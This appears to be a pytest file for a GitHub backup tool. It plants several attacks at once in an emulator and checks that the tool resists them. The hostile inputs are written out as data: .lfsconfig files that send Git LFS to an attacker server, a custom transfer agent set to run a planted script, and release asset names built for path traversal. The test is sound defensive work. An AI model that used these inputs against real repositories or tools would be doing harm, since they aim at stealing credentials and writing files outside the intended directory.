"""One whole backup with every attack of docs/security.md planted at once (issue 25).

Several repositories point Git LFS at the attacker's server (one of them also tries to make
git-lfs run a program), a dependency outside the organization does the same, GitHub's host
redirects one repository to the attacker, GitHub's LFS refuses every token for another (an
authentication loop): the attacker must hear no credential, nothing may be written outside
the cache, the run must end within its stall bound with exit 3 naming each attempt, and a
restore must equal the emulator's truth for everything the attacker did not touch.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

from tests.support.attacker_server import plant_lfsconfig, start_attacker
from tests.github_emulator.mutate import add_release, push_files
from tests.support.cli import ORG, restore, run_backup
from tests.support.snapshot import install_lfs_filters
from tests.support.truth_compare import compare_org, files_holding

STALL_SECONDS = 20
REDIRECTED = "private-tools"
REFUSED_LFS = "assets-lfs"  # GitHub's LFS answers 401 for it, whatever the token
LFS_ELSEWHERE = ("game", "shared-lib", "docs")
HOSTILE_RELEASE = ("godot", "v-hostile")  # its asset names lead out of the cache


def files_under(root: Path, skip: tuple[Path, ...]) -> set[Path]:
    return {p for p in root.rglob("*") if not any(p == s or s in p.parents for s in skip)}


def test_every_attack_at_once(github_emulator, world_root, backup_env, tmp_path, capsys):
    install_lfs_filters()  # as in the image: checkouts run git-lfs's smudge filter
    attacker = start_attacker(github_emulator.ca)
    marker = tmp_path / "PWNED"
    program = tmp_path / "transfer-agent.sh"
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    try:
        for name in LFS_ELSEWHERE:
            plant_lfsconfig(world_root, ORG, name, attacker.url)
        # git-lfs ignores these "unsafe" keys in a .lfsconfig; checked, not assumed
        push_files(world_root, ORG, "docs", {".lfsconfig": (
            f"[lfs]\n\turl = {attacker.url}/lfs\n\tstandalonetransferagent = evil\n"
            f"[lfs \"customtransfer.evil\"]\n\tpath = {program}\n")}, message="run my program")
        plant_lfsconfig(world_root, "upstream-deps", "libfoo", attacker.url)
        escape = tmp_path / "escaped-absolute.bin"
        add_release(world_root, ORG, HOSTILE_RELEASE[0], HOSTILE_RELEASE[1], {
            "../../../../../../../../escaped-up.bin": b"up\n" * 100, str(escape): b"absolute\n" * 100,
            "sub/dir.bin": b"separator\n" * 100, "..": b"dots\n" * 100})
        github_emulator.set_faults(git_redirect={f"{ORG}/{REDIRECTED}": attacker.url},
                                   lfs_unauthorized_repos=[f"{ORG}/{REFUSED_LFS}"])
        env = dict(backup_env, BACKUP_STALL_SECONDS=str(STALL_SECONDS))
        cache = Path(env["BACKUP_CACHE_DIR"])
        ours = (cache, Path(env["RESTIC_REPOSITORY"]), tmp_path / "home" / ".cache")  # restic keeps its cache there
        before = files_under(tmp_path, ours)

        started = time.monotonic()
        status, summary, _ = run_backup(env, capsys)
        seconds = time.monotonic() - started

        assert attacker.authorizations() == []
        assert not marker.exists()
        assert status == 3, summary
        assert seconds < 6 * STALL_SECONDS, seconds  # the LFS loop ended long before its stall bound
        problems = summary["orgs"][0]["problem_list"]
        text = "\n".join(problems)
        for name in LFS_ELSEWHERE:
            assert f"{ORG}/{name} [lfs]: its .lfsconfig sends Git LFS to {attacker.url}/lfs" in text, text
        assert f"{ORG}/{REDIRECTED} [repository]: git ls-remote failed" in text, text
        assert f"{ORG}/{REFUSED_LFS} [credentials]: no token given to" in text, text
        assert text.count(f"{ORG}/{HOSTILE_RELEASE[0]} [names]: release asset ") == 4, text
        assert not escape.exists()
        touched = set(LFS_ELSEWHERE) | {REDIRECTED, REFUSED_LFS, HOSTILE_RELEASE[0]}
        assert all(any(f"{ORG}/{name} " in p for name in touched) for p in problems), problems

        outside = sorted(str(p) for p in files_under(tmp_path, ours) - before)
        assert outside == []  # nothing written outside the cache and the repository
        restored = restore(env, summary["orgs"][0]["snapshot_id"], tmp_path / "restored")
        token = github_emulator.admin_token.encode()
        assert files_holding(tmp_path / "restored", token) == []
        differences = compare_org(ORG, github_emulator.truth(), restored)
        untouched = [d for d in differences if d.split(":")[0].split("/")[-1] not in touched - {HOSTILE_RELEASE[0]}]
        assert untouched == []  # godot too: only its hostile release's files are stored under safe names
        # What the attacker touched is there too, as far as GitHub gave it: the planted LFS
        # files came from GitHub, not from the attacker's server.
        assert [d for d in differences if d.split(":")[0].split("/")[-1] in LFS_ELSEWHERE] == []
    finally:
        attacker.stop()
    assert os.path.exists(tmp_path / "restored" / ORG / "manifest.json")
